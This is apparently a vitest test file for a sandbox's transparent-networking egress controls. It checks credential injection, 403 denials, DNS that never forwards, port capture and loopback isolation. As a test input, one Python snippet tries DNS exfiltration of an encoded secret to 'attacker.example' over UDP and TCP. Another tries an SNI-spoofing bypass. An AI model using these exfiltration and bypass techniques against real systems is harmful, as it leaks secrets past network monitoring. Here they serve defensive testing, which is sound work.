// Transparent networking (SPEC §4 "Network", issue 5): clients that ignore proxy variables still
// reach what the policy allows and nothing else; DNS inside answers from the policy and never
// forwards. Loopback only: real-looking names are mapped to loopback servers with
// `upstream.resolve`. Run by CI as root and again as an unprivileged user.
import { createServer, type Server } from 'node:net'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { getOrCreateSandbox, type Sandbox, type SandboxEvent } from '../index.js'
import { useTempHome } from './helpers/home.js'
import { httpsUpstream, makeTestCA, type TestCA, type Upstream } from './helpers/upstreams.js'

const home = useTempHome()
const SECRET = 'ghp-TRANSPARENT-SECRET-4b3a'
const whoami = process.getuid?.() === 0 ? 'root' : 'unprivileged'
/** No proxy variables at all: the client must go direct. */
const NO_PROXY_ENV = { HTTPS_PROXY: '', https_proxy: '', HTTP_PROXY: '', http_proxy: '', ALL_PROXY: '', all_proxy: '' }
const ECHO_PORT = 7070
const LATE_PORT = 7071

let ca: TestCA
let api: Upstream
let echo: Server
let echoAddr: string
let echoPort: number
let sandbox: Sandbox

const config = (extra: object[] = []) => ({
  egress: [
    { access: 'allow', host: 'api.github.com', override: { headers: { Authorization: `Bearer ${SECRET}` } } },
    { access: 'allow', host: 'echo.example', ports: [ECHO_PORT] },
    // Captures the echo server's own port inside, to show the sandbox's loopback is its own.
    { access: 'allow', host: 'echo.example', ports: [echoPort] },
    ...extra,
  ],
  upstream: {
    resolve: {
      'api.github.com:443': api.addr,
      'echo.example:7070': echoAddr,
      'late.example:7071': echoAddr,
    },
    ca: [ca.caPem],
  },
})

const run = (argv: string[]) => sandbox.exec(argv, { env: NO_PROXY_ENV })
const py = (code: string) => run(['python3', '-c', code])

/** Events of `type` seen within `ms` on a stream opened before `action` ran. */
async function eventsDuring(type: string, action: () => Promise<unknown>, ms = 1500): Promise<SandboxEvent[]> {
  const stream = sandbox.getEventsStream()
  await action()
  const seen: SandboxEvent[] = []
  const deadline = Date.now() + ms
  const it = stream[Symbol.asyncIterator]()
  while (Date.now() < deadline) {
    const next = await Promise.race([it.next(), new Promise<null>((r) => setTimeout(() => r(null), deadline - Date.now()))])
    if (!next || next.done) break
    if (next.value.type === type) seen.push(next.value)
  }
  await it.return?.()
  return seen
}

beforeAll(async () => {
  ca = makeTestCA(['api.github.com', 'pypi.org'])
  api = await httpsUpstream(ca)
  echo = createServer((s) => s.pipe(s))
  await new Promise<void>((resolve) => echo.listen(0, '127.0.0.1', resolve))
  echoPort = (echo.address() as AddressInfo).port
  echoAddr = `127.0.0.1:${echoPort}`
  sandbox = await getOrCreateSandbox('transparent', config())
})

afterAll(async () => {
  await sandbox?.close()
  await api?.close()
  await new Promise((r) => echo?.close(r))
  home.cleanup()
})

describe(`transparent networking (${whoami})`, () => {
  it("Node's fetch reaches an allowed host with no proxy variables, with the credential injected", async () => {
    const r = await run(['node', '-e', "fetch('https://api.github.com/zen').then(r => r.text()).then(t => console.log(t), e => { console.error(String(e.cause ?? e)); process.exit(1) })"])
    expect(r.stderr).toBe('')
    expect(r.stdout.trim()).toBe('ok /zen')
    expect(api.hits.at(-1)).toMatchObject({ host: 'api.github.com', path: '/zen' })
    expect(api.hits.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`)
  })

  it("Node's fetch of a host no rule allows gets hive's 403 naming method and path", async () => {
    const before = api.hits.length
    const events = await eventsDuring('egress.request', async () => {
      const r = await run(['node', '-e', "fetch('https://pypi.org/simple/').then(async r => console.log(r.status, await r.text()), e => { console.error(String(e.cause ?? e)); process.exit(3) })"])
      expect(r.stderr).toBe('')
      expect(r.stdout.trim()).toBe("403 hive: GET pypi.org/simple/ denied by this sandbox's egress policy (no rule matches host pypi.org)")
    })
    expect(events).toContainEqual(expect.objectContaining({ host: 'pypi.org', method: 'GET', path: '/simple/', scheme: 'https', access: 'denied', via: 'transparent' }))
    expect(api.hits.length).toBe(before)
  })

  it("curl --noproxy '*' behaves the same", async () => {
    const ok = await run(['curl', '-sS', '--noproxy', '*', 'https://api.github.com/zen'])
    expect(ok.stdout).toBe('ok /zen')
    expect(api.hits.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`)
    const denied = await run(['curl', '-sS', '--noproxy', '*', '-m', '5', '-w', ' %{http_code}', 'https://pypi.org/simple/'])
    expect(denied.stdout).toMatch(/^hive: GET pypi\.org\/simple\/ denied .* 403$/s)
  })

  it('Python requests with trust_env=False behaves the same', async () => {
    const code = (url: string) =>
      `import os,requests\ns=requests.Session()\ns.trust_env=False\ntry:\n print(s.get("${url}", verify=os.environ["SSL_CERT_FILE"], timeout=5).text)\nexcept Exception as e:\n print("error", type(e).__name__)`
    expect((await py(code('https://api.github.com/zen'))).stdout.trim()).toBe('ok /zen')
    expect(api.hits.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`)
    expect((await py(code('https://pypi.org/simple/'))).stdout.trim()).toMatch(/^hive: GET pypi\.org\/simple\/ denied/)
  })

  it('a name no rule allows resolves at once to a refusing local address, with a dns.query denied event', async () => {
    let took = 0
    const events = await eventsDuring('dns.query', async () => {
      const started = Date.now()
      const r = await run(['getent', 'ahostsv4', 'evil.example'])
      took = Date.now() - started
      expect(r.stdout).toMatch(/^127\.2\.\d+\.\d+ /)
    })
    expect(took).toBeLessThan(1000)
    expect(events).toContainEqual(expect.objectContaining({ host: 'evil.example', name: 'evil.example', access: 'denied' }))
  })

  it('DNS exfiltration over UDP and TCP gets only a local refusing address and reaches nothing', async () => {
    const query = `import socket,struct
name="c2VjcmV0LXRva2Vu.attacker.example"
q=struct.pack(">HHHHHH",0x1234,0x0100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\\0"+struct.pack(">HH",1,1)
u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);u.settimeout(2);u.sendto(q,("127.0.0.1",53));r=u.recv(512);print("udp",r[3]&15,".".join(map(str,r[-4:-2])))
t=socket.create_connection(("127.0.0.1",53),2);t.sendall(struct.pack(">H",len(q))+q);n=struct.unpack(">H",t.recv(2))[0];r=t.recv(n);print("tcp",r[3]&15,".".join(map(str,r[-4:-2])))`
    const before = api.hits.length
    const events = await eventsDuring('dns.query', async () => {
      expect((await py(query)).stdout).toBe('udp 0 127.2\ntcp 0 127.2\n')
    })
    expect(events.filter((e) => e.name === 'c2vjcmv0lxrva2vu.attacker.example' && e.access === 'denied')).toHaveLength(2)
    expect(api.hits.length).toBe(before)
  })

  it('a raw TCP tunnel to an allowed name on a non-HTTP rule port works', async () => {
    const r = await py(`import socket\ns=socket.create_connection(("echo.example",${ECHO_PORT}),5)\ns.sendall(b"ping-raw")\nprint(s.recv(100).decode())`)
    expect(r.stderr).toBe('')
    expect(r.stdout.trim()).toBe('ping-raw')
  })

  it('a connection to any address on a port no rule names is refused within 100 ms', async () => {
    const r = await py(`import socket,time,errno
for addr in ["192.0.2.1","10.1.2.3","127.1.0.1"]:
    s=socket.socket();t=time.monotonic()
    try:
        s.connect((addr,8081));print("connected")
    except OSError as e:
        print(errno.errorcode.get(e.errno), round((time.monotonic()-t)*1000))`)
    const lines = r.stdout.trim().split('\n')
    expect(lines).toHaveLength(3)
    for (const line of lines) {
      const [code, ms] = line.split(' ')
      expect(code).toBe('ECONNREFUSED')
      expect(Number(ms)).toBeLessThan(100)
    }
  })

  it("a captured port on the sandbox's loopback never reaches the host's loopback", async () => {
    let hostSaw = 0
    const count = () => hostSaw++
    echo.on('connection', count)
    const r = await py(`import socket\ntry:\n s=socket.create_connection(("127.0.0.1",${echoPort}),2)\n s.settimeout(2)\n s.sendall(b"x")\n print(s.recv(10) or b"closed")\nexcept OSError as e:\n print(type(e).__name__)`)
    echo.off('connection', count)
    expect(r.stdout.trim()).not.toContain('x')
    expect(hostSaw).toBe(0)
  })

  it('a TLS connection whose SNI names a denied host is refused, whatever address was dialled', async () => {
    const before = api.hits.length
    const r = await py(`import os,socket,ssl
ctx=ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
mapped=socket.gethostbyname("api.github.com")
for addr in [mapped,"192.0.2.1"]:
    try:
        s=ctx.wrap_socket(socket.create_connection((addr,443),5),server_hostname="pypi.org")
        s.sendall(b"GET /simple/ HTTP/1.1\\r\\nHost: pypi.org\\r\\nConnection: close\\r\\n\\r\\n")
        print(s.recv(100).decode().split("\\r\\n")[0] or "closed")
    except (OSError, ssl.SSLError) as e:
        print("refused", type(e).__name__)`)
    const lines = r.stdout.trim().split('\n')
    expect(lines).toHaveLength(2)
    for (const line of lines) expect(line).not.toMatch(/ 200 /)
    expect(api.hits.length).toBe(before)
  })

  it('after applyConfig allows a new host and port, its name resolves and its port is captured', async () => {
    const connect = `import socket\ntry:\n s=socket.create_connection(("late.example",${LATE_PORT}),5)\n s.sendall(b"late")\n print(s.recv(100).decode())\nexcept OSError as e:\n print("error", type(e).__name__)`
    // Denied: the name has a refusing address, and nothing listens on that port.
    expect((await py(connect)).stdout.trim()).toBe('error ConnectionRefusedError')
    await sandbox.applyConfig(config([{ access: 'allow', host: 'late.example', ports: [LATE_PORT] }]))
    expect((await py(connect)).stdout.trim()).toBe('late')
    // And back: the port stops being captured, the name is denied again.
    await sandbox.applyConfig(config())
    expect((await py(connect)).stdout.trim()).toBe('error ConnectionRefusedError')
    const refused = await py(`import socket,errno\ntry:\n socket.create_connection(("127.1.0.9",${LATE_PORT}),2)\nexcept OSError as e:\n print(errno.errorcode.get(e.errno))`)
    expect(refused.stdout.trim()).toBe('ECONNREFUSED')
  })
})

// The added latency of the transparent path against the explicit proxy path: 200 sequential
// HTTPS GETs over one keep-alive connection each way, in one run (numbers go to the log).
describe(`transparent latency (${whoami})`, () => {
  it('measures 200 keep-alive GETs through the proxy and transparently', async () => {
    const urls = Array.from({ length: 200 }, () => '-o /dev/null https://api.github.com/zen').join(' ')
    const timed = (flags: string) =>
      `s=$(date +%s%N); curl -sS ${flags} -w '%{http_code}\\n' ${urls} | sort | uniq -c; e=$(date +%s%N); echo $(( (e - s) / 1000 ))`
    const proxied = await sandbox.exec(['sh', '-c', timed('')])
    const direct = await run(['sh', '-c', timed("--noproxy '*'")])
    const parse = (out: string) => {
      const lines = out.trim().split('\n')
      return { codes: lines[0].trim(), us: Number(lines.at(-1)) }
    }
    const p = parse(proxied.stdout)
    const d = parse(direct.stdout)
    expect(p.codes).toBe('200 200')
    expect(d.codes).toBe('200 200')
    console.log(`[latency] 200 GETs: explicit proxy ${(p.us / 1000).toFixed(1)} ms (${(p.us / 200).toFixed(0)} us/req), transparent ${(d.us / 1000).toFixed(1)} ms (${(d.us / 200).toFixed(0)} us/req), added ${((d.us - p.us) / 200).toFixed(0)} us/req`)
  })
})
